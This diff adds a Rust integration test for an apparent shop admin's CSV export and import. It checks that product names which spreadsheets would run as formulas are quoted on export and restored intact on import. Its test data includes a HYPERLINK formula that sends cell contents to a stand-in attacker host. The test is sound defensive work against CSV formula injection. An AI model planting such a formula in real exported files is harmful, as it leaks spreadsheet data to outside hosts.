@@ -300,3 +300,77 @@ WH,,Wh,100,,,,,,
     assert_eq!(again["unchanged"], 5, "{again}");
     assert_eq!(again["failed"], 0, "{again}");
 }
+
+#[tokio::test]
+async fn export_guards_cells_that_spreadsheets_would_run_and_imports_them_back() {
+    let app = TestApp::with_plugins(&["catalog"]).await;
+    let admin = app.admin().await;
+    for (key, input_type) in [("min_temp", "number"), ("motto", "text")] {
+        let reply = admin
+            .submit_json(
+                "/admin/catalog/attributes/create",
+                &json!({ "key": key, "input_type": input_type }),
+            )
+            .await;
+        assert_eq!(reply.status, 200, "{}", reply.body);
+    }
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
+    for (sku, name) in [
+        ("F-EQ", hyperlink),
+        ("F-PLUS", "+1+1"),
+        ("F-MINUS", "-2+3"),
+        ("F-AT", "@SUM(A1:A9)"),
+        // Names are trimmed, so a leading tab goes and what follows is guarded.
+        ("F-TAB", "\t=1+1"),
+    ] {
+        let reply = admin
+            .submit_json(
+                "/admin/catalog/products/create",
+                &json!({
+                    "sku": sku, "name": name, "price": 100,
+                    "attributes": {"min_temp": -5, "motto": "-5"}
+                }),
+            )
+            .await;
+        assert_eq!(reply.status, 200, "{sku}: {}", reply.body);
+    }
+    let export = admin.get("/admin/catalog/products/export").await;
+    assert_eq!(export.status, 200);
+    let csv = export.body.clone();
+    let row = |sku: &str| -> &str {
+        csv.split("\r\n")
+            .find(|line| line.starts_with(&format!("{sku},")))
+            .unwrap_or_else(|| panic!("no row of {sku} in {csv}"))
+    };
+    // The name cell follows abstract_sku and the empty concrete_sku; a number attribute stays a
+    // number (-5), a text attribute that looks like one is guarded ('-5).
+    assert!(
+        row("F-EQ")
+            .starts_with("F-EQ,,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","),
+        "{csv}"
+    );
+    assert!(row("F-PLUS").starts_with("F-PLUS,,'+1+1,"), "{csv}");
+    assert!(row("F-MINUS").starts_with("F-MINUS,,'-2+3,"), "{csv}");
+    assert!(row("F-AT").starts_with("F-AT,,'@SUM(A1:A9),"), "{csv}");
+    assert!(row("F-TAB").starts_with("F-TAB,,'=1+1,"), "{csv}");
+    assert!(row("F-EQ").ends_with(",-5,'-5"), "{csv}");
+    for unguarded in [",=", ",+", ",@", ",\t", ",\"=", ",\"+", ",\"-", ",\"@"] {
+        assert!(!csv.contains(unguarded), "{unguarded:?} in {csv}");
+    }
+
+    // The import reads the guarded cells back as they were: nothing changes.
+    let report = import(&admin, &csv).await;
+    assert_eq!(report["unchanged"], 5, "{report}");
+    assert_eq!(report["failed"], 0, "{report}");
+    let list = admin
+        .get_json("/admin/catalog/products/index?sort=sku")
+        .await
+        .json();
+    let products = list["products"].as_array().unwrap();
+    let product = products.iter().find(|p| p["sku"] == "F-EQ").unwrap();
+    assert_eq!(product["name"], hyperlink);
+    assert_eq!(
+        product["attributes"],
+        json!({"min_temp": -5, "motto": "-5"})
+    );
+}
